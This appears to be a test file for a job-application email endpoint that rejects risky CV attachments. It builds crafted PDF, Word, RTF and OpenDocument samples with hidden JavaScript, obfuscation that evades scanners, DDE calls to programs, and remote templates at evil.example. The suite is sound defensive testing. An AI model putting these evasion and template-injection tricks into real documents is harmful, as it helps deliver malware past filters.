import { deflateSync } from 'node:zlib';
import { expect, test } from 'vitest';
import { apiPaths } from '../../../shared/paths.ts';
import { openApp } from '../../../test/support/api.ts';
import { base64, docx, odt, rtf } from '../../../test/support/documents.ts';
import { careers, emailBody, storedSubmissions } from '../../../test/support/email.ts';
import { onEachEngine } from '../../../test/support/engines.ts';

const rels = (type: string, target: string) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`;
const settings = (target: string) => ({ 'word/_rels/settings.xml.rels': rels('attachedTemplate', target) });
const latin1 = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'));
const pdfOf = (text: string) => latin1(`%PDF-1.7\n1 0 obj ${text} endobj\n`);
const packed = (text: string) =>
  pdfOf(`<< /Filter /FlateDecode >> stream\n${deflateSync(text).toString('latin1')}`);
const SCRIPT = '4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>';
const objectStream = (filter: string, content: Buffer, first = '4') =>
  pdfOf(
    `<< /Type /ObjStm /N 1 /F#69rst ${first} ${filter} >> stream\n${content.toString('latin1')}\nendstream`,
  );
/** An object stream whose content is written as hexadecimal digits. @param around what stands before and after it */
const digits = (entries: string, [before = '', after = ''] = []) =>
  pdfOf(
    `${before} << /N 1 ${entries} >> stream\n${Buffer.from(SCRIPT).toString('hex')}>\nendstream ${after}`,
  );
const XLINK = 'http://www.w3.org/1999/xlink';
const field = (...words: string[]) => ({
  'word/document.xml': `<w:document xmlns:w="w">${words.map((word) => `<w:instrText>${word}</w:instrText>`).join('')}</w:document>`,
});
const wide = (text: string) => [...text].map((sign) => `${sign}\0`).join('');

const ole = '\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1';

onEachEngine('documents of applicants', ({ makeContext }) => {
  async function apply(extension: string, content: Uint8Array) {
    const context = await makeContext();
    const file = { filename: `cv.${extension}`, content: base64(content), type: '' };
    const body = emailBody('careers', { ...careers, attachments: [careers.attachments[0], file] });
    const answer = await openApp(context).request(apiPaths.email, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
    return { answer, stored: await storedSubmissions(context) };
  }

  test.each([
    [
      'an OpenDocument file with a Basic library',
      'odt',
      odt({ 'Basic/Standard/Module1.xml': 'Sub Main' }),
      'OpenDocument',
      'contains macros, controls or objects from other programs',
    ],
    [
      'an OpenDocument file with an event',
      'odt',
      odt({ 'settings.xml': '<event-listener/>' }),
      'OpenDocument',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a PDF with JavaScript',
      'pdf',
      pdfOf('<< /S /JavaScript /JS (app.alert\\(1\\)) >>'),
      'PDF',
      'contains JavaScript',
    ],
    [
      'a PDF that starts a program',
      'pdf',
      pdfOf('<< /OpenAction << /S /L#61unch >> >>'),
      'PDF',
      'starts a program or plays media',
    ],
    [
      'a PDF whose JavaScript is compressed',
      'pdf',
      packed('<< /S /JavaScript >>'),
      'PDF',
      'contains JavaScript',
    ],
    [
      'a PDF whose JavaScript is compressed twice',
      'pdf',
      objectStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(SCRIPT))),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as hexadecimal digits',
      'pdf',
      objectStream('/Filter /ASCIIHexDecode', Buffer.from(`${Buffer.from(SCRIPT).toString('hex')}>`)),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits with spaces, its offset elsewhere',
      'pdf',
      objectStream('/Filter /ASCIIHexDecode', Buffer.from('34 20 30 20 3C 3C 20 2F 53'), '9 0 R'),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is compressed, with a wrong checksum',
      'pdf',
      objectStream(
        '/F#69lter /FlateDecode',
        Buffer.concat([deflateSync(SCRIPT).subarray(0, -4), Buffer.alloc(4)]),
      ),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, behind a string that looks like a stream',
      'pdf',
      digits(`/First 4 /Text (stream\n1 1 ) /Filter /ASCIIHexDecode`),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, beside the entries of bookmarks',
      'pdf',
      digits('/First 4 /Last 5 0 R /Filter /ASCIIHexDecode'),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, without the entry that some readers need',
      'pdf',
      digits('/Filter /ASCIIHexDecode'),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, by a filter with a short name',
      'pdf',
      digits('/First 4 /F /ASCIIHexDecode'),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, by a second filter',
      'pdf',
      digits('/First 4 /Filter /FlateDecode /Filter /ASCIIHexDecode'),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, in a string that a table leads to',
      'pdf',
      digits('/First 4 /Filter /ASCIIHexDecode', ['<< /Text (2 0 obj', ') >>']),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is written as digits, in a comment that a table leads to',
      'pdf',
      digits('/First 4 /Filter /ASCIIHexDecode', ['<< >> %2 0 obj', '']),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a PDF whose JavaScript is compressed, and begins where readers differ',
      'pdf',
      pdfOf(
        `<< /N 1 /First 4 /Filter /FlateDecode >> stream \n${deflateSync(SCRIPT).toString('latin1')}\nendstream`,
      ),
      'PDF',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'an RTF file that updates an object',
      'rtf',
      rtf('{\\object\\objautlink\\objupdate{\\*\\objdata 0105}}'),
      'RTF',
      'contains macros, controls or objects from other programs',
    ],
    [
      'an RTF file with a template from elsewhere',
      'rtf',
      rtf('{\\*\\template https://evil.example/a.dotm}'),
      'RTF',
      'fetches or sends something',
    ],
    [
      'an RTF file with a template of another machine',
      'rtf',
      rtf('{\\*\\template //evil.example/a.dotm}'),
      'RTF',
      'fetches or sends something',
    ],
    [
      'an RTF file with a template from elsewhere, its letters written as numbers',
      'rtf',
      rtf("{\\*\\template \\u104?ttps://evil.example/a.dotm}{\\*\\template \\'68ttps://evil.example}"),
      'RTF',
      'fetches or sends something',
    ],
    [
      'a Word file with a template from elsewhere',
      'docx',
      docx(settings('https://evil.example/a.dotm')),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with a template of another machine',
      'docx',
      docx(settings('\\\\evil.example\\a.dotm')),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with an object',
      'docx',
      docx({ 'word/embeddings/oleObject1.bin': 'x' }),
      'Word',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a Word file with an object under another name',
      'docx',
      docx({ 'word/_rels/document.xml.rels': rels('oleObject', 'media/a.dat') }),
      'Word',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a Word file with a call of another program',
      'docx',
      docx(field(' DD', 'E<!-- -->AUTO c:\\\\Windows\\\\a.exe')),
      'Word',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a Word file with a template from elsewhere, its address written as numbers',
      'docx',
      docx(settings('&#x68;ttps://evil.example/a.dotm')),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with a template from elsewhere that calls itself a link',
      'docx',
      docx({
        'word/_rels/settings.xml.rels': rels('attachedTemplate', 'https://e.example/a" Title=">/hyperlink'),
      }),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with a template from elsewhere whose address names a link',
      'docx',
      docx(settings('https://e.example/a.dotm?Type=&#39;/hyperlink&#39;')),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with a template of a shared folder',
      'docx',
      docx(settings('file:////evil.example/a.dotm')),
      'Word',
      'fetches or sends something',
    ],
    [
      'a Word file with a call of another program behind what looks like a comment',
      'docx',
      docx(field('DDEAUTO"c:\\a.exe"', '<![CDATA[<!--]]>')),
      'Word',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a Word file whose text has another name',
      'docx',
      docx({ 'word/document.dat': field('DDE x')['word/document.xml'] }),
      'Word',
      'contains macros, controls or objects from other programs',
    ],
    [
      'a Word file that is not well-formed',
      'docx',
      docx({ 'word/document.xml': '<w:document xmlns:w="w"><w:p></w:document>' }),
      'Word',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'a Word file with a template from elsewhere, in UTF-16',
      'docx',
      docx({
        'word/_rels/settings.xml.rels': wide(rels('attachedTemplate', 'https://evil.example/a.dotm')),
      }),
      'Word',
      'fetches or sends something',
    ],
    [
      'an OpenDocument file with a picture from elsewhere',
      'odt',
      odt({ 'styles.xml': `<image xmlns:x="${XLINK}" x:href="https://evil.example/a.png"/>` }),
      'OpenDocument',
      'fetches or sends something',
    ],
    [
      'a Word file that cannot be unpacked',
      'docx',
      docx().subarray(0, -30),
      'Word',
      'can’t be unpacked, or takes too long to check',
    ],
    [
      'an old Word file with a package',
      'doc',
      latin1(`${ole}${wide('WordDocument')}\x01\0${wide('Ole10Native')}`),
      'Word before 2007',
      'contains macros, controls or objects from other programs',
    ],
  ])('are refused, and what they have is named: %s', async (_what, extension, content, kind, what) => {
    const { answer, stored } = await apply(extension, content);
    expect([answer.status, await answer.text()]).toEqual([
      400,
      `attachments.1: This file (${kind}, 1 KB) ${what}. Please print it to a new PDF and choose that.`,
    ]);
    expect(stored).toEqual({ submissions: [], attachments: [], mails: [] });
  });

  test.each([
    ['a PDF with a link', 'pdf', pdfOf('<< /S /URI /URI (https://ada.example) >>')],
    [
      'a Word file with a link',
      'docx',
      docx({ 'word/_rels/document.xml.rels': rels('hyperlink', 'https://ada.example') }),
    ],
    [
      'a Word file with the number of its page',
      'docx',
      docx(field(' PAGE ', ' HYPERLINK "https://ada.example" ')),
    ],
    [
      'an OpenDocument file with a link and a picture',
      'odt',
      odt({
        'styles.xml': `<p xmlns:x="${XLINK}"><a x:href="https://ada.example"/><image x:href="Pictures/1.png"/></p>`,
      }),
    ],
    [
      'a PDF with bookmarks',
      'pdf',
      pdfOf('<< /First 5 0 R /Last 6 0 R >> endobj 2 0 obj << >> stream\nBT\nendstream'),
    ],
    ['a Word file with a template of its writer', 'docx', docx(settings('file:///C:\\Users\\Ada\\CV.dotx'))],
    ['a Word file with a template of a Mac', 'docx', docx(settings('file:////Users/ada/CV.dotx'))],
    ['a Word file with a picture of a mail', 'docx', docx(settings('cid:image001.png@01D1'))],
    ['a Word file with a link to Anna Hedde', 'docx', docx(field(' HYPERLINK "x" \\o "Anna Hedde "'))],
    ['a Word file with a chart', 'docx', docx({ 'word/embeddings/Microsoft_Excel_Sheet1.xlsx': 'PK' })],
    [
      'an RTF file with templates of its writer',
      'rtf',
      rtf("{\\*\\template C:\\\\Users\\\\Ad\\'e9\\\\CV.dotx}{\\*\\template Normal.dotm}"),
    ],
    [
      'an RTF file with templates of its writer on a Mac',
      'rtf',
      rtf('{\\*\\template Macintosh HD:Users:ada:Normal.dotm}{\\*\\template /Users/ada/Normal.dotm}'),
    ],
    [
      'an RTF file with templates whose names have signs',
      'rtf',
      rtf("{\\*\\template Ada & Co.dotx}{\\*\\template Ada's CV.dotx}{\\*\\template Pr\\'e9.dotm}"),
    ],
    ['an RTF file with a picture', 'rtf', rtf('{\\pict\\pngblip 89504e47}')],
  ])('are taken: %s', async (_what, extension, content) => {
    const { answer, stored } = await apply(extension, content);
    expect([answer.status, stored.attachments.length]).toEqual([200, 2]);
  });
});
